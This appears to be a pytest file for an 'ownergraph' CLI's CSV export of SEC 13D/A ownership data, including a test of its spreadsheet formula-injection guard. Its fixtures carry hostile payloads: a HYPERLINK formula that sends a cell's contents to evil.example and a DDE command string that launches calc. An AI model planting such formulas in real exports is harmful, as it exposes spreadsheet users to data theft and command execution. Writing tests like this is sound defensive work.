"""`ownergraph export --format csv` (cli.sources, queries.csv_export): parties, holdings,
links, positions and documents as CSV, into a folder or one zip, with the formula guard.

Expected values read off the seed 13D/A by hand: seven cover pages; Nelson Obus row 8
(shared voting) 3,731,323, row 11 3,731,323, row 13 8.34 %; Wynnefield Partners Small Cap
Value, L.P. holds 275,355 shares of common stock (Item 5); the three funds each hold
common stock, notes and warrants (9 holdings); the issuer is Liquidmetal Technologies.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

from click.testing import CliRunner

from ownergraph.cli import main

SEED = Path(__file__).parents[1] / "data" / "liquidmetal-wynnefield-sc13da2-2008-09-30.txt"
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'

ENTITIES = f"""id,name,kind,cik,lei,cusip,issuer_id,jurisdiction,names,identifiers
p1,"{EVIL.replace('"', '""')}",person,,,,,US,,
p2,@SUM(1+1),entity,,,,,US,,
acme,Acme Corp,issuer,,,,,DE,,
acme_c,Common Stock,security,,,ACME00101,acme,,,
"""
EDGES = """id,kind,source,target,role,shares,instrument,right_to_acquire,percent,share_min,share_max,exclusive_min,exclusive_max,power,as_of,evidence
e1,controls,p1,p2,managing_member,,,,,,,,,shared,2024-01-01,+cmd|' /C calc'!A0
h1,holds,p2,acme_c,,1000,common,,,,,,,,2024-01-01,
"""


def _rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def _store(tmp: Path) -> str:
    hostile = tmp / "hostile"
    hostile.mkdir()
    (hostile / "entities.csv").write_text(ENTITIES)
    (hostile / "edges.csv").write_text(EDGES)
    db = str(tmp / "s.db")
    res = CliRunner().invoke(main, ["load", str(SEED), str(hostile), "--store", db])
    assert res.exit_code == 0, res.output
    return db


def test_csv_tables_in_a_folder_and_in_a_zip(tmp_path: Path) -> None:
    db = _store(tmp_path)
    runner = CliRunner()
    out = tmp_path / "tables"
    res = runner.invoke(main, ["export", "--format", "csv", "--output", str(out), "--store", db])
    assert res.exit_code == 0, res.output
    files = sorted(p.name for p in out.iterdir())
    assert files == ["documents.csv", "holdings.csv", "links.csv", "parties.csv", "positions.csv"]
    assert (out / "parties.csv").read_bytes().startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8

    positions = [
        r for r in _rows((out / "positions.csv").read_bytes()) if r["document"] == SEED.name
    ]
    assert len(positions) == 7
    [obus] = [r for r in positions if r["name"] == "Nelson Obus"]
    assert (obus["sole_voting"], obus["shared_voting"]) == ("0", "3731323")
    assert (obus["aggregate"], obus["percent_of_class"]) == ("3731323", "8.34")
    holdings = [r for r in _rows((out / "holdings.csv").read_bytes()) if r["document"] == SEED.name]
    assert len(holdings) == 9
    common = [
        r
        for r in holdings
        if r["holder"] == "Wynnefield Partners Small Cap Value, L.P."
        and r["instrument"] == "common"
    ]
    assert [r["shares"] for r in common] == ["275355"]
    docs = _rows((out / "documents.csv").read_bytes())
    assert {d["file"]: d["issuer"] for d in docs}[SEED.name] == "Liquidmetal Technologies, Inc."
    assert {d["file"]: d["event_date"] for d in docs}[SEED.name] == "2008-09-30"
    links = _rows((out / "links.csv").read_bytes())
    assert any(
        r["controller"] == "Nelson Obus" and r["controlled"] == "Wynnefield Capital Management, LLC"
        for r in links
    )

    # the formula guard: text cells a spreadsheet would run start with a quote
    names = {r["id"]: r["name"] for r in _rows((out / "parties.csv").read_bytes())}
    assert "'" + EVIL in names.values() and "'@SUM(1+1)" in names.values()
    assert not any(v.startswith(("=", "@", "+", "-")) for v in names.values())
    [evil_link] = [r for r in links if r["document"] == "entities.csv"]
    assert evil_link["controller"] == "'" + EVIL
    assert evil_link["source_text"] == "'+cmd|' /C calc'!A0"

    # a second export refuses to overwrite, unless --force
    again = runner.invoke(main, ["export", "--format", "csv", "-o", str(out), "--store", db])
    assert again.exit_code == 2 and "exists; give --force" in again.stderr
    forced = ["export", "--format", "csv", "-o", str(out), "--force", "--store", db]
    assert runner.invoke(main, forced).exit_code == 0

    # the zip holds the same five files, byte for byte
    zpath = tmp_path / "tables.zip"
    res = runner.invoke(
        main, ["export", "--format", "csv", "--zip", "-o", str(zpath), "--store", db]
    )
    assert res.exit_code == 0, res.output
    with zipfile.ZipFile(zpath) as zf:
        assert sorted(zf.namelist()) == files
        for name in files:
            assert zf.read(name) == (out / name).read_bytes()


def test_csv_needs_a_folder_or_zip(tmp_path: Path) -> None:
    res = CliRunner().invoke(main, ["export", "--format", "csv", "--store", str(tmp_path / "s.db")])
    assert res.exit_code == 2
    assert "--format csv writes a folder" in res.output
